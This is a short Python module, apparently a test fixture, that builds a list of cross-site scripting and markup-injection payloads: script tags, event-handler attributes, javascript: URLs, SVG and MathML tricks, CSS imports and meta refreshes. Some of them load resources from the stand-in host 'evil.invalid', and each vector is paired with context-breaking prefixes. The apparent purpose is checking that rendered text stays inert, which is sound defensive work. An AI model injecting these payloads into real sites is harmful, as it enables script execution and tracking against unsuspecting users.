"""Texts that would run, load or restyle something if they ever became markup."""

from __future__ import annotations

FIRE = "window.__fired=1"
AWAY = "http://evil.invalid/"
VECTORS = (
    f"<script>{FIRE}</script>",
    f"<script src={AWAY}s.js></script>",
    f"<img src=x onerror={FIRE}>",
    f"<img src={AWAY}p.png>",
    f"<svg onload={FIRE}>",
    f"<svg><script>{FIRE}</script></svg>",
    f"<svg><animate onbegin={FIRE} attributeName=x dur=1s>",
    f"<svg><set onbegin={FIRE} attributeName=x>",
    f"<svg><use href='{AWAY}u.svg#a'/></svg>",
    f"<svg><foreignObject><img src=x onerror={FIRE}></foreignObject></svg>",
    f"<iframe src=javascript:{FIRE}></iframe>",
    f"<iframe srcdoc='<script>{FIRE}</script>'></iframe>",
    f"<body onload={FIRE}>",
    f"<details open ontoggle={FIRE}>",
    f"<video><source onerror={FIRE}></video>",
    f"<audio src={AWAY}a.mp3 onerror={FIRE}>",
    f"<input autofocus onfocus={FIRE}>",
    f"<b tabindex=1 autofocus onfocus={FIRE} onmouseover={FIRE}>b</b>",
    f"<object data=javascript:{FIRE}></object>",
    f"<embed src={AWAY}e>",
    f"<a href=javascript:{FIRE} autofocus onfocus={FIRE}>a</a>",
    f"<math><mtext><script>{FIRE}</script></mtext></math>",
    f"<style>@import '{AWAY}c.css';*{{background:url({AWAY}b)}}</style>",
    f"<p style=background:url({AWAY}b)>",
    f"<link rel=stylesheet href={AWAY}l.css>",
    f"<link rel=prefetch href={AWAY}f>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}>",
    f"<form action={AWAY}><button autofocus formaction=javascript:{FIRE}>",
    f"<template><script>{FIRE}</script></template><img src=x onerror={FIRE}>",
    f"<noscript><p title='</noscript><img src=x onerror={FIRE}>'>",
    f"javascript:{FIRE}",
    f"{{{{ ''.__class__ }}}}{{% raw %}}<img src=x onerror={FIRE}>",
    f"${{{FIRE}}}`;{FIRE};//",
    f"\\u003cimg src=x onerror={FIRE}\\u003e",
    f"&lt;img src=x onerror={FIRE}&gt;&#60;script&#62;",
)
EDGES = (
    "",
    '">',
    "'>",
    "</script>",
    "</style>",
    "</title>",
    "-->",
    "]]>",
    "</text></g></svg>",
    "</span></button></template></dialog>",
    f'" onmouseover="{FIRE}" x="',
    '"]}],"x":"',
)
"""What would close the place in which the text stands."""
PAYLOADS = tuple(edge + vector for vector in VECTORS for edge in EDGES)
